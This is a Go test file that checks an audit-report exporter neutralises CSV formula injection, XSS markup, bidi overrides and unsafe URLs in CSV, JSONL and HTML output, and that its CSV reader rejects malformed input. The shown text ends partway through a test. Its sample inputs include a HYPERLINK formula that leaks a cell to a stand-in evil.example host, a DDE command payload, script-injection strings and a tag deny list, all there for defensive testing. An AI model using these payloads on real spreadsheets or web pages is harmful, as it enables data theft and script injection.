package ticketing_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ticketgate/ticketing"
)

// reportCSVHeader is the header WriteAuditCSV must write, spelled out here
// so that a change to the columns is a deliberate one.
var reportCSVHeader = []string{"seq", "time", "action", "secretId", "secretName", "user",
	"ticketSystemId", "ticketSystemName", "ticketNumber", "reason", "url", "outcome", "denialCode",
	"denialMessage", "liveCheck", "fromCache", "ticketStatus", "comment", "commentDetail",
	"correlationId", "prevHash", "hash"}

// reportHostile are ticket numbers and reasons a hostile user might type
// (or a hostile store might hold): formula triggers, CSV syntax, line
// breaks, bidi overrides, markup, non-ASCII.
var reportHostile = []string{
	`=HYPERLINK("http://evil","x")`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
	`@SUM(A1)`,
	`+1`,
	`-1`,
	`+cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"\r\n=1+1",
	`'=1+1`,
	`'quoted already`,
	`''`,
	`'`,
	`=`,
	`-`,
	`say "hi", then leave`,
	`"`,
	`,`,
	"line one\r\nline two",
	"line one\nline two\rthree\n",
	"\n=1+1",
	" =1+1",
	"\u202eevil\u202c.exe",
	"\u2066INC0012345\u2069",
	"Zürich – 東京 🎫 INC0012345",
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`javascript:alert(1)`,
	`\.`,
	"",
	"INC0012345",
}

// reportFormulaStart reports whether a spreadsheet would evaluate a cell
// with this text, or strip its first character and then look again.
func reportFormulaStart(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

// reportNeutralised is what WriteAuditCSV must write for a cell holding v.
func reportNeutralised(v string) string {
	if reportFormulaStart(v) || strings.HasPrefix(v, "'") {
		return "'" + v
	}
	return v
}

var reportDay = time.Date(2026, 3, 10, 0, 0, 0, 0, time.UTC)

func reportAt(hour, min int) time.Time {
	return reportDay.Add(time.Duration(hour)*time.Hour + time.Duration(min)*time.Minute)
}

// reportFill appends recs to a new MemoryStore and returns the store and
// the records as stored.
func reportFill(t testing.TB, recs []ticketing.AuditRecord) (*ticketing.MemoryStore, []ticketing.AuditRecord) {
	t.Helper()
	s := ticketing.NewMemoryStore()
	stored := make([]ticketing.AuditRecord, 0, len(recs))
	for _, r := range recs {
		got, err := s.AppendAudit(context.Background(), r)
		require.NoError(t, err)
		stored = append(stored, got)
	}
	return s, stored
}

// reportHostileRecords puts every hostile string in the ticket number and
// the reason of a record, in the other text fields of some, and pairs them
// with every kind of URL.
func reportHostileRecords() []ticketing.AuditRecord {
	urls := []string{"", "https://tickets.example/view?id=1", "javascript:alert(1)", "=HYPERLINK(\"x\")"}
	var recs []ticketing.AuditRecord
	for i, h := range reportHostile {
		other := reportHostile[(i+7)%len(reportHostile)]
		recs = append(recs, ticketing.AuditRecord{
			Time:             reportAt(9, i),
			Action:           ticketing.ActionView,
			SecretID:         "s-1",
			SecretName:       other,
			User:             "-" + other,
			TicketSystemID:   "sn",
			TicketSystemName: "@" + other,
			TicketNumber:     h,
			Reason:           reportHostile[(i+3)%len(reportHostile)],
			URL:              urls[i%len(urls)],
			Outcome:          []ticketing.Outcome{ticketing.OutcomeGranted, ticketing.OutcomeDenied}[i%2],
			DenialCode:       []string{"", "ticket_format"}[i%2],
			DenialMessage:    []string{"", "=1+2 is not an incident number"}[i%2],
			LiveCheck:        ticketing.LiveCheckVerified,
			FromCache:        i%3 == 0,
			TicketStatus:     "+" + other,
			Comment:          ticketing.CommentFailed,
			CommentDetail:    other,
			CorrelationID:    fmt.Sprintf("c-%d", i),
		})
	}
	return recs
}

func reportCollect(t testing.TB, s ticketing.AuditStore, q ticketing.AuditQuery) []ticketing.AuditRecord {
	t.Helper()
	var out []ticketing.AuditRecord
	for r, err := range ticketing.AuditRecords(context.Background(), s, q) {
		require.NoError(t, err)
		out = append(out, r)
	}
	return out
}

func reportReadCSV(data []byte) ([]ticketing.AuditRecord, error) {
	var out []ticketing.AuditRecord
	for r, err := range ticketing.ReadAuditCSV(bytes.NewReader(data)) {
		if err != nil {
			return out, err
		}
		out = append(out, r)
	}
	return out, nil
}

// reportCheckCSVCells parses out with encoding/csv (an independent reader)
// and checks that no cell starts with a formula trigger and that each cell
// is the neutralised form of the record's value (encoding/csv turns "\r\n"
// inside a cell into "\n", so the comparison does too).
func reportCheckCSVCells(t testing.TB, out []byte, want []ticketing.AuditRecord) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	require.NoError(t, err, "encoding/csv cannot read the report")
	require.Len(t, rows, len(want)+1)
	require.Equal(t, reportCSVHeader, rows[0])
	crlf := strings.NewReplacer("\r\n", "\n")
	for i, row := range rows[1:] {
		r := want[i]
		values := []string{fmt.Sprint(r.Seq), r.Time.UTC().Format(time.RFC3339Nano), string(r.Action), r.SecretID,
			r.SecretName, r.User, r.TicketSystemID, r.TicketSystemName, r.TicketNumber, r.Reason, r.URL,
			string(r.Outcome), r.DenialCode, r.DenialMessage, string(r.LiveCheck), fmt.Sprint(r.FromCache),
			r.TicketStatus, string(r.Comment), r.CommentDetail, r.CorrelationID, r.PrevHash, r.Hash}
		require.Len(t, row, len(values))
		for j, cell := range row {
			require.False(t, reportFormulaStart(cell), "row %d column %s: cell %q would be evaluated", i+1, reportCSVHeader[j], cell)
			require.Equal(t, crlf.Replace(reportNeutralised(values[j])), cell, "row %d column %s", i+1, reportCSVHeader[j])
		}
	}
}

func TestWriteAuditCSVHostileRoundTrip(t *testing.T) {
	ctx := context.Background()
	s, stored := reportFill(t, reportHostileRecords())

	var buf bytes.Buffer
	require.NoError(t, ticketing.WriteAuditCSV(ctx, &buf, s, ticketing.AuditQuery{}))
	out := buf.Bytes()

	require.True(t, bytes.HasPrefix(out, []byte(strings.Join(reportCSVHeader, ",")+"\n")), "header row")
	reportCheckCSVCells(t, out, stored)
	// The classic payloads, spelled out.
	for _, cell := range []string{
		`"'=HYPERLINK(""http://evil"",""x"")"`,
		`'@SUM(A1)`,
		`'+1`,
		`'-1`,
		"'\t=1+1",
		"\"'\r=1+1\"",
		`''=1+1`,
		"\"line one\r\nline two\"",
	} {
		assert.Contains(t, string(out), ","+cell+",", "cell %q", cell)
	}

	got, err := reportReadCSV(out)
	require.NoError(t, err)
	if diff := cmp.Diff(stored, got); diff != "" {
		t.Fatalf("CSV round trip (-stored +read):\n%s", diff)
	}
	// The round trip is exact: the chain still verifies over the records
	// that came back.
	s2, _ := reportFill(t, got)
	again := reportCollect(t, s2, ticketing.AuditQuery{})
	if diff := cmp.Diff(stored, again); diff != "" {
		t.Fatalf("records read back do not rebuild the same chain (-stored +rebuilt):\n%s", diff)
	}
}

func TestWriteAuditCSVQueryAndOrder(t *testing.T) {
	ctx := context.Background()
	s, _ := reportFill(t, reportHostileRecords())
	for _, q := range []ticketing.AuditQuery{
		{Outcome: ticketing.OutcomeDenied},
		{NewestFirst: true, Limit: 3},
		{TicketNumber: "INC0012345"},
		{Since: reportAt(9, 5), Until: reportAt(9, 9), NewestFirst: true},
	} {
		var buf bytes.Buffer
		require.NoError(t, ticketing.WriteAuditCSV(ctx, &buf, s, q))
		want := reportCollect(t, s, q)
		require.NotEmpty(t, want, "query %+v", q)
		got, err := reportReadCSV(buf.Bytes())
		require.NoError(t, err)
		if diff := cmp.Diff(want, got); diff != "" {
			t.Fatalf("query %+v (-want +got):\n%s", q, diff)
		}
	}
}

func TestReadAuditCSVAcceptsSpreadsheetSaves(t *testing.T) {
	ctx := context.Background()
	s, stored := reportFill(t, []ticketing.AuditRecord{
		{Time: reportAt(8, 0), Action: ticketing.ActionView, SecretID: "s-1", User: "alice", TicketNumber: "INC0000001", Reason: "two\nlines", Outcome: ticketing.OutcomeGranted},
		{Time: reportAt(8, 1), Action: ticketing.ActionView, SecretID: "s-1", User: "bob", TicketNumber: "=1", Outcome: ticketing.OutcomeDenied},
	})
	var buf bytes.Buffer
	require.NoError(t, ticketing.WriteAuditCSV(ctx, &buf, s, ticketing.AuditQuery{}))
	// A byte order mark, CRLF record ends (the "\n" inside the quoted reason
	// is data and stays) and a blank line at the end.
	const keep = "two\nlines"
	require.Contains(t, buf.String(), keep)
	saved := strings.ReplaceAll(buf.String(), keep, "\x00")
	saved = strings.ReplaceAll(saved, "\n", "\r\n")
	saved = "\uFEFF" + strings.ReplaceAll(saved, "\x00", keep) + "\r\n"
	require.Equal(t, 4, strings.Count(saved, "\r\n"))
	got, err := reportReadCSV([]byte(saved))
	require.NoError(t, err, "%q", saved)
	if diff := cmp.Diff(stored, got); diff != "" {
		t.Fatalf("(-stored +read):\n%s", diff)
	}
}

func TestReadAuditCSVMalformed(t *testing.T) {
	header := strings.Join(reportCSVHeader, ",") + "\n"
	row := func(cells map[int]string) string {
		c := []string{"1", "2026-03-10T09:00:00Z", "view", "s-1", "", "alice", "sn", "", "INC0000001", "",
			"", "granted", "", "", "", "false", "", "", "", "", "", "ab"}
		for i, v := range cells {
			c[i] = v
		}
		return strings.Join(c, ",") + "\n"
	}
	// The good row parses, so each case below fails for its own reason.
	got, err := reportReadCSV([]byte(header + row(nil)))
	require.NoError(t, err)
	require.Len(t, got, 1)
	assert.Equal(t, "INC0000001", got[0].TicketNumber)

	type want struct {
		line   int
		column string
	}
	for name, c := range map[string]struct {
		in string
		want
	}{
		"empty":                   {"", want{0, ""}},
		"only a blank line":       {"\n", want{0, ""}},
		"header only partly":      {"seq,time\n", want{1, ""}},
		"header misspelled":       {strings.Replace(header, "ticketNumber", "ticket", 1), want{1, ""}},
		"header neutralised":      {"'" + header, want{1, ""}},
		"row too short":           {header + "1,2026-03-10T09:00:00Z,view\n", want{2, ""}},
		"row too long":            {header + strings.TrimSuffix(row(nil), "\n") + ",extra\n", want{2, ""}},
		"seq not a number":        {header + row(map[int]string{0: "s3cr3t"}), want{2, "seq"}},
		"seq empty":               {header + row(map[int]string{0: ""}), want{2, "seq"}},
		"time not RFC 3339":       {header + row(map[int]string{1: "10/03/2026 09:00"}), want{2, "time"}},
		"fromCache not a bool":    {header + row(map[int]string{15: "maybe"}), want{2, "fromCache"}},
		"unterminated quote":      {header + row(map[int]string{9: `"s3cr3t`}), want{2, "reason"}},
		"quote in unquoted cell":  {header + row(map[int]string{9: `ab"c`}), want{2, "reason"}},
		"text after close quote":  {header + row(map[int]string{9: `"ab"c`}), want{2, "reason"}},
		"bare carriage return":    {header + row(map[int]string{9: "a\rb"}), want{2, "reason"}},
		"CR after closing quote":  {header + row(map[int]string{21: "\"ab\"\rx"}), want{2, "hash"}},
		"multi-line row broken":   {header + row(map[int]string{9: "\"two\nlines\"", 13: "\"a\"b"}), want{2, "denialMessage"}},
		"second row broken":       {header + row(nil) + row(map[int]string{1: "yesterday"}), want{3, "time"}},
		"binary":                  {"\x00\x01\x02\xff\xfe", want{1, ""}},
		"header without line end": {"seq", want{1, ""}},
		"header broken":           {`seq,"time`, want{1, ""}},
		"row starts with CR":      {header + "\rx", want{2, "seq"}},
		"row over 16 MiB":         {header + strings.Repeat("a", 16<<20+1) + "\n", want{2, ""}},
		"quoted cell over 16 MiB": {header + `1,"` + strings.Repeat("a", 16<<20+1) + "\"\n", want{2, ""}},
		"blank lines then broken": {header + "\n\r\n\n" + row(map[int]string{0: "x"}), want{5, "seq"}},
	} {
		in := c.in
		t.Run(name, func(t *testing.T) {
			var errs []error
			n := 0
			for rec, err := range ticketing.ReadAuditCSV(strings.NewReader(in)) {
				n++
				if err != nil {
					errs = append(errs, err)
					assert.Equal(t, ticketing.AuditRecord{}, rec)
				} else {
					require.Empty(t, errs, "a record after the error")
				}
			}
			require.Len(t, errs, 1, "exactly one error, as the last pair")
			var ce *ticketing.AuditCSVError
			require.ErrorAs(t, errs[0], &ce)
			assert.Equal(t, c.line, ce.Line, "line")
			assert.Equal(t, c.column, ce.Column, "column")
			assert.NotContains(t, errs[0].Error(), "s3cr3t", "the error quotes the content")
		})
	}
}

func TestReadAuditCSVReadErrorAndEarlyStop(t *testing.T) {
	boom := errors.New("disk on fire")
	var ce *ticketing.AuditCSVError
	_, err := reportReadCSV(nil)
	require.ErrorAs(t, err, &ce)

	var n int
	for _, err := range ticketing.ReadAuditCSV(iotest.ErrReader(boom)) {
		n++
		require.ErrorIs(t, err, boom)
		require.False(t, errors.As(err, &ce), "a read error is not malformed input")
	}
	require.Equal(t, 1, n)

	// A reader that fails half way through a row.
	s, _ := reportFill(t, reportHostileRecords())
	var buf bytes.Buffer
	require.NoError(t, ticketing.WriteAuditCSV(context.Background(), &buf, s, ticketing.AuditQuery{}))
	half := io.MultiReader(bytes.NewReader(buf.Bytes()[:buf.Len()/2]), iotest.ErrReader(boom))
	var recs int
	var last error
	for _, err := range ticketing.ReadAuditCSV(half) {
		if err != nil {
			last = err
			continue
		}
		recs++
	}
	require.ErrorIs(t, last, boom)
	require.Greater(t, recs, 0)
	require.Less(t, recs, len(reportHostile))

	// Stopping early does not read on.
	cr := &reportCountingReader{r: bytes.NewReader(buf.Bytes())}
	for range ticketing.ReadAuditCSV(cr) {
		break
	}
	require.Less(t, cr.n, int64(buf.Len()))
}

type reportCountingReader struct {
	r io.Reader
	n int64
}

func (c *reportCountingReader) Read(p []byte) (int, error) {
	if len(p) > 512 {
		p = p[:512]
	}
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

func TestWriteAuditJSONLRoundTrip(t *testing.T) {
	ctx := context.Background()
	s, stored := reportFill(t, reportHostileRecords())
	var buf bytes.Buffer
	require.NoError(t, ticketing.WriteAuditJSONL(ctx, &buf, s, ticketing.AuditQuery{}))
	out := buf.String()

	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	require.Len(t, lines, len(stored), "one line per record")
	for _, l := range lines {
		require.True(t, strings.HasPrefix(l, "{") && strings.HasSuffix(l, "}"), "one object per line: %s", l)
	}
	for _, c := range []string{"<", ">", "&"} {
		assert.NotContains(t, out, c, "HTML escaping is on")
	}
	assert.Contains(t, lines[0], `"ticketNumber":"=HYPERLINK(\"http://evil\",\"x\")"`)

	dec := json.NewDecoder(strings.NewReader(out))
	dec.DisallowUnknownFields()
	var got []ticketing.AuditRecord
	for {
		var r ticketing.AuditRecord
		err := dec.Decode(&r)
		if err == io.EOF {
			break
		}
		require.NoError(t, err)
		got = append(got, r)
	}
	if diff := cmp.Diff(stored, got); diff != "" {
		t.Fatalf("JSONL round trip (-stored +read):\n%s", diff)
	}
}

// reportTag is one tag of an HTML page.
type reportTag struct {
	name  string // lower case; "/td" for an end tag, "!doctype"
	attrs map[string]string
}

// reportPage is what reportParseHTML finds in a report.
type reportPage struct {
	tables map[string][][]string // by the <h2> before them: rows of cell texts
	links  []reportLink
	text   string // all text, entity-decoded
}

type reportLink struct{ href, text string }

var (
	reportAttr     = regexp.MustCompile(`^\s+([a-z][a-z-]*)="([^"<>]*)"`)
	reportTagName  = regexp.MustCompile(`^(/?[a-z][a-z0-9]*|!DOCTYPE html)`)
	reportAllowTag = map[string]bool{"!doctype html": true, "html": true, "head": true, "meta": true,
		"title": true, "style": true, "body": true, "h1": true, "h2": true, "p": true, "table": true,
		"thead": true, "tbody": true, "tr": true, "th": true, "td": true, "a": true, "time": true, "code": true}
	reportAllowAttr = map[string]bool{"lang": true, "charset": true, "http-equiv": true, "content": true,
		"name": true, "class": true, "colspan": true, "href": true, "rel": true, "datetime": true}
)

// reportParseHTML reads a report page strictly and checks that it is safe:
// only the tags and attributes the report uses, every attribute quoted,
// links only to absolute http(s) URLs without user info, no scripts,
// frames, images, external style sheets or event handlers, a
// Content-Security-Policy, and CSS that loads nothing. It returns the
// tables, links and text for the caller's checks.
func reportParseHTML(t *testing.T, page string) reportPage {
	t.Helper()
	lower := strings.ToLower(page)
	for _, bad := range []string{"<script", "<iframe", "<img", "<link", "<object", "<embed", "<svg", "<base", "<form", "<style "} {
		require.NotContains(t, lower, bad)
	}
	var (
		p        = reportPage{tables: map[string][][]string{}}
		heading  string
		inH2     bool
		inStyle  bool
		inCell   bool
		inLink   = -1
		rows     [][]string
		allText  strings.Builder
		cspFound bool
	)
	addText := func(raw string) {
		require.NotContains(t, raw, ">", "a raw > in text")
		txt := html.UnescapeString(raw)
		allText.WriteString(txt)
		if inStyle {
			for _, bad := range []string{"url(", "@import", "expression(", "</"} {
				require.NotContains(t, strings.ToLower(txt), bad, "CSS that loads something")
			}
		}
		if inH2 {
			heading += txt
		}
		if inCell {
			row := rows[len(rows)-1]
			row[len(row)-1] += txt
		}
		if inLink >= 0 {
			p.links[inLink].text += txt
		}
	}
	for rest := page; rest != ""; {
		i := strings.IndexByte(rest, '<')
		if i < 0 {
			addText(rest)
			break
		}
		addText(rest[:i])
		j := strings.IndexByte(rest[i:], '>')
		require.Positive(t, j, "unclosed tag")
		raw := rest[i+1 : i+j]
		rest = rest[i+j+1:]

		m := reportTagName.FindString(raw)
		require.NotEmpty(t, m, "not a tag: <%s>", raw)
		tag := reportTag{name: strings.ToLower(m), attrs: map[string]string{}}
		for a := raw[len(m):]; a != ""; {
			am := reportAttr.FindStringSubmatch(a)
			require.NotNil(t, am, "bad attribute syntax in <%s>", raw)
			name := am[1]
			require.True(t, reportAllowAttr[name], "attribute %q in <%s>", name, raw)
			require.NotContains(t, tag.attrs, name, "repeated attribute")
			value := html.UnescapeString(am[2])
			require.NotContains(t, strings.ToLower(value), "javascript:", "in <%s>", raw)
			tag.attrs[name] = value
			a = a[len(am[0]):]
		}
		name := strings.TrimPrefix(tag.name, "/")
		require.True(t, reportAllowTag[name], "tag <%s>", raw)
		if _, ok := tag.attrs["href"]; ok {
			require.Equal(t, "a", tag.name, "href outside <a>")
		}
		switch tag.name {
		case "meta":
			if v, ok := tag.attrs["http-equiv"]; ok {
				require.Equal(t, "Content-Security-Policy", v)
				require.Contains(t, tag.attrs["content"], "default-src 'none'")
				cspFound = true
			}
		case "a":
			href := tag.attrs["href"]
			require.True(t, strings.HasPrefix(href, "http://") || strings.HasPrefix(href, "https://"), "link to %q", href)
			u, err := url.Parse(href)
			require.NoError(t, err)
			require.NotEmpty(t, u.Host)
			require.Nil(t, u.User, "link with user info: %q", href)
			require.Equal(t, "noopener noreferrer", tag.attrs["rel"])
			require.Equal(t, -1, inLink, "nested link")
			p.links = append(p.links, reportLink{href: href})
			inLink = len(p.links) - 1
		case "/a":
			inLink = -1
		case "h2":
			inH2, heading = true, ""
		case "/h2":
			inH2 = false
		case "style":
			inStyle = true
		case "/style":
			inStyle = false
		case "tbody":
			rows = nil
		case "/tbody":
			p.tables[heading] = rows
		case "tr":
			rows = append(rows, nil)
		case "td":
			require.NotEmpty(t, rows, "cell outside a row")
			rows[len(rows)-1] = append(rows[len(rows)-1], "")
			inCell = true
		case "/td":
			inCell = false
		}
	}
	require.True(t, cspFound, "no Content-Security-Policy")
	require.Equal(t, -1, inLink, "unclosed link")
	p.text = allText.String()
	return p
}

func TestWriteAuditHTMLHostile(t *testing.T) {
	ctx := context.Background()
	recs := reportHostileRecords()
	// Every kind of URL a hostile or broken store might hold.
	badURLs := []string{
		"javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
		"vbscript:msgbox(1)", "/relative/INC1", "relative", "//evil.example/INC1", "https://user:pw@tickets.example/INC1",
		"https://user@tickets.example/INC1", "http:///no-host", "https:", "mailto:a@example.com", "ftp://tickets.example/INC1",
		"https://tickets.example/%zz", "\x00https://tickets.example/", "https://tickets.example/\x7f",
	}
	for i, u := range badURLs {
		recs = append(recs, ticketing.AuditRecord{Time: reportAt(11, i), Action: ticketing.ActionView, SecretID: "s-2",
			User: "eve", TicketSystemID: "sn", TicketNumber: fmt.Sprintf("BAD-%02d", i), URL: u, Outcome: ticketing.OutcomeGranted})
	}
	goodURLs := []string{"https://tickets.example/view?id=7&x=%3Cb%3E", "http://tickets.example:8080/INC0000042#frag"}
	for i, u := range goodURLs {
		recs = append(recs, ticketing.AuditRecord{Time: reportAt(12, i), Action: ticketing.ActionView, SecretID: "s-2",
			User: "frank", TicketSystemID: "sn", TicketNumber: fmt.Sprintf("GOOD-%02d", i), URL: u, Outcome: ticketing.OutcomeGranted})
	}
	// A ticket whose first record has a bad URL is linked in the summary
	// through a later record's good one.
	const mixed = "https://tickets.example/MIX-1"
	for i, u := range []string{"javascript:alert(1)", "", mixed} {
		recs = append(recs, ticketing.AuditRecord{Time: reportAt(13, i), Action: ticketing.ActionView, SecretID: "s-2",
			User: "gus", TicketSystemID: "sn", TicketNumber: "MIX-1", URL: u, Outcome: ticketing.OutcomeGranted})
	}
	s, _ := reportFill(t, recs)

	var buf bytes.Buffer
	require.NoError(t, ticketing.WriteAuditHTML(ctx, &buf, s, ticketing.AuditQuery{},
		ticketing.ReportOptions{Title: `<script>alert("title")</script>`, Now: func() time.Time { return reportAt(18, 0) }, MaxSummaryValues: 100}))
	page := buf.String()
	p := reportParseHTML(t, page)

	// Only the good URLs and the one web URL of the hostile records are
	// linked, each in the summary and in the records table.
	hrefs := map[string]int{}
	for _, l := range p.links {
		hrefs[l.href]++
		require.NotContains(t, l.text, "BAD-", "a bad URL became a link")
	}
	want := map[string]int{mixed: 2}
	for _, u := range goodURLs {
		want[u] = 2
	}
	// The hostile records with that URL: one link per record in the
	// table, one per ticket in the summary (a record without a ticket
	// number has no link).
	rowLinks, tickets := 0, map[string]bool{}
	for _, r := range recs {
		if r.URL == "https://tickets.example/view?id=1" && r.TicketNumber != "" {
			rowLinks++
			tickets[r.TicketNumber] = true
		}
	}
	require.Positive(t, rowLinks)
	want["https://tickets.example/view?id=1"] = rowLinks + len(tickets)
	if diff := cmp.Diff(want, hrefs); diff != "" {
		t.Fatalf("links (-want +got):\n%s", diff)
	}

	// Markup in any field is text: it is never in the page raw, and it is
	// in the page's text once entities are decoded.
	for _, h := range []string{`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `<script>alert("title")</script>`} {
		require.NotContains(t, page, h)
		require.Contains(t, p.text, h)
	}
	require.Contains(t, page, "&lt;script&gt;alert(1)&lt;/script&gt;")
	// Bidi overrides and other format characters are shown, not obeyed.
	require.NotContains(t, page, "\u202e")
	require.NotContains(t, page, "\u2066")
	require.Contains(t, p.text, `\u{202E}evil\u{202C}.exe`)
	require.NotContains(t, page, "\r")
	// Non-ASCII text is kept as it is.
	require.Contains(t, p.text, "Zürich – 東京 🎫 INC0012345")

	// Every record has its row, in order.
	rows := p.tables["Records"]
	require.Len(t, rows, len(recs))
	plain := func(s string) bool { // nothing the page shows as an escape
		return !strings.ContainsFunc(s, func(r rune) bool { return r < ' ' && r != '\n' || r == 0x7f || r >= 0x200e && r <= 0x206f })
	}
	checked := 0
	for i, row := range rows {
		require.Len(t, row, 12)
		require.Equal(t, fmt.Sprint(i+1), row[0])
		if r := recs[i]; plain(r.TicketNumber) && plain(r.Reason) {
			// Decoded once, the cells are the values: escaped once, no more.
			assert.Equal(t, r.TicketNumber, row[6], "record %d", i+1)
			assert.Equal(t, r.Reason, row[7], "record %d", i+1)
			checked++
		}
	}
	require.Greater(t, checked, len(reportHostile)/2)
}

func TestWriteAuditHTMLSummary(t *testing.T) {
	ctx := context.Background()
	sn := func(r ticketing.AuditRecord) ticketing.AuditRecord {
		r.TicketSystemID, r.TicketSystemName = "servicenow", "ServiceNow"
		if r.Outcome == ticketing.OutcomeGranted && r.TicketNumber != "" && r.TicketNumber != "12345" {
			r.URL = "https://sn.example/incident?number=" + r.TicketNumber
		}
		return r
	}
	granted, denied := ticketing.OutcomeGranted, ticketing.OutcomeDenied
	view := ticketing.ActionView
	recs := []ticketing.AuditRecord{
		sn(ticketing.AuditRecord{Time: reportAt(9, 0), Action: view, SecretID: "s1", SecretName: "prod-db root", User: "alice", TicketNumber: "INC0000001", Reason: "restart", Outcome: granted}),
		{Time: reportAt(9, 30), Action: ticketing.ActionRequestAccess, SecretID: "s3", User: "carol", TicketSystemID: "jira", TicketSystemName: "Jira", TicketNumber: "OPS-7", Outcome: granted},
		sn(ticketing.AuditRecord{Time: reportAt(10, 0), Action: view, SecretID: "s2", SecretName: "AWS key", User: "bob", TicketNumber: "INC0000001", Reason: "deploy", Outcome: granted}),
		sn(ticketing.AuditRecord{Time: reportAt(10, 30), Action: view, SecretID: "s1", SecretName: "prod-db root", User: "dave", TicketNumber: "12345", Reason: "x", Outcome: denied, DenialCode: "ticket_format", DenialMessage: "Enter an incident number"}),
		// The same number in another system is another ticket.
		{Time: reportAt(10, 45), Action: view, SecretID: "s3", User: "carol", TicketSystemID: "jira-old", TicketSystemName: "Old Jira", TicketNumber: "OPS-7", Outcome: denied, DenialCode: "inactive", DenialMessage: "The chosen ticket system is not available"},
		sn(ticketing.AuditRecord{Time: reportAt(11, 0), Action: view, SecretID: "s1", SecretName: "prod-db root", User: "bob", TicketNumber: "INC0000001", Outcome: denied, DenialCode: "reason_required", DenialMessage: "Reason is required"}),
		// Out of time order: the summary takes the earliest and latest.
		sn(ticketing.AuditRecord{Time: reportAt(8, 15), Action: view, SecretID: "s1", SecretName: "prod-db root", User: "alice", TicketNumber: "INC0000001", Reason: "early", Outcome: granted}),
		{Time: reportAt(13, 0), Action: view, SecretID: "s4", User: "erin", Reason: "wiki", Outcome: granted},
		sn(ticketing.AuditRecord{Time: reportAt(14, 0), Action: view, SecretID: "s1", SecretName: "prod-db root", User: "dave", Outcome: denied, DenialCode: "ticket_required", DenialMessage: "Incident number is required"}),
		sn(ticketing.AuditRecord{Time: reportAt(14, 5), Action: view, SecretID: "s1", SecretName: "prod-db root", User: "dave", TicketNumber: "12345", Outcome: denied, DenialCode: "ticket_format", DenialMessage: "Enter an incident number"}),
		sn(ticketing.AuditRecord{Time: reportAt(15, 0), Action: view, SecretID: "s5", User: "gina", TicketNumber: "INC0000002", Outcome: granted}),
		sn(ticketing.AuditRecord{Time: reportAt(15, 1), Action: view, SecretID: "s6", User: "hal", TicketNumber: "INC0000002", Outcome: granted}),
		sn(ticketing.AuditRecord{Time: reportAt(15, 2), Action: view, SecretID: "s7", User: "ida", TicketNumber: "INC0000002", Outcome: granted}),
		sn(ticketing.AuditRecord{Time: reportAt(15, 3), Action: view, SecretID: "s8", User: "gina", TicketNumber: "INC0000002", Outcome: granted}),
	}
	s, _ := reportFill(t, recs)
	opts := ticketing.ReportOptions{Title: "Tuesday", Now: func() time.Time { return reportAt(18, 0) }, MaxSummaryValues: 2}

	var buf bytes.Buffer
	require.NoError(t, ticketing.WriteAuditHTML(ctx, &buf, s, ticketing.AuditQuery{}, opts))
	p := reportParseHTML(t, buf.String())

	ts := func(h, m int) string { return reportAt(h, m).Format("2006-01-02 15:04:05 UTC") }
	wantTickets := [][]string{
		{"12345", "ServiceNow", "prod-db root (s1)", "dave", ts(10, 30), ts(14, 5), "0", "2"},
		{"INC0000001", "ServiceNow", "AWS key (s2), prod-db root (s1)", "alice, bob", ts(8, 15), ts(11, 0), "3", "1"},
		{"INC0000002", "ServiceNow", "s5, s6 and 2 more", "gina, hal and 1 more", ts(15, 0), ts(15, 3), "4", "0"},
		{"OPS-7", "Jira", "s3", "carol", ts(9, 30), ts(9, 30), "1", "0"},
		{"OPS-7", "Old Jira", "s3", "carol", ts(10, 45), ts(10, 45), "0", "1"},
	}
	if diff := cmp.Diff(wantTickets, p.tables["Tickets"]); diff != "" {
		t.Fatalf("ticket summary (-want +got):\n%s", diff)
	}
	wantUsers := [][]string{
		{"dave", "3", "3", ts(10, 30), ts(14, 5), "ticket_format ×2, ticket_required ×1"},
		{"bob", "1", "2", ts(11, 0), ts(11, 0), "reason_required ×1"},
		{"carol", "1", "2", ts(10, 45), ts(10, 45), "inactive ×1"},
	}
	if diff := cmp.Diff(wantUsers, p.tables["Denied attempts by user"]); diff != "" {
		t.Fatalf("denied per user (-want +got):\n%s", diff)
	}
	// Ticket links: the summary links INC0000001 and INC0000002 through a
	// granted record's URL; 12345 and OPS-7 have none.
	var summaryLinks []reportLink
	for _, l := range p.links {
		if l.text == "INC0000001" || l.text == "INC0000002" || l.text == "12345" || l.text == "OPS-7" {
			summaryLinks = append(summaryLinks, l)
		}
	}
	assert.Contains(t, summaryLinks, reportLink{href: "https://sn.example/incident?number=INC0000001", text: "INC0000001"})
	for _, l := range summaryLinks {
		assert.NotEqual(t, "12345", l.text)
		assert.NotEqual(t, "OPS-7", l.text)
	}
	assert.Len(t, p.links, 3+1+4+1, "INC0000001: 3 granted rows and the summary; INC0000002: 4 rows and the summary")

	records := p.tables["Records"]
	require.Len(t, records, len(recs))
	assert.Equal(t, []string{"4", ts(10, 30), "dave", "view", "prod-db root (s1)", "ServiceNow", "12345", "x", "denied", "ticket_format Enter an incident number", "", ""}, records[3])
	assert.Equal(t, []string{"8", ts(13, 0), "erin", "view", "s4", "", "", "wiki", "granted", "", "", ""}, records[7])

	text := p.text
	assert.Contains(t, text, "Generated "+ts(18, 0))
	assert.Contains(t, text, "14 records (9 granted, 5 denied), from "+ts(8, 15)+" to "+ts(15, 3))
	assert.Contains(t, text, "Records: all records; oldest first.")
	assert.Contains(t, buf.String(), "<title>Tuesday</title>")
	assert.Contains(t, buf.String(), "<h1>Tuesday</h1>")

	// The same trail and clock give the same bytes.
	var again bytes.Buffer
	require.NoError(t, ticketing.WriteAuditHTML(ctx, &again, s, ticketing.AuditQuery{}, opts))
	require.Equal(t, buf.String(), again.String())

	// A filtered, newest-first report: only that ticket, described.
	buf.Reset()
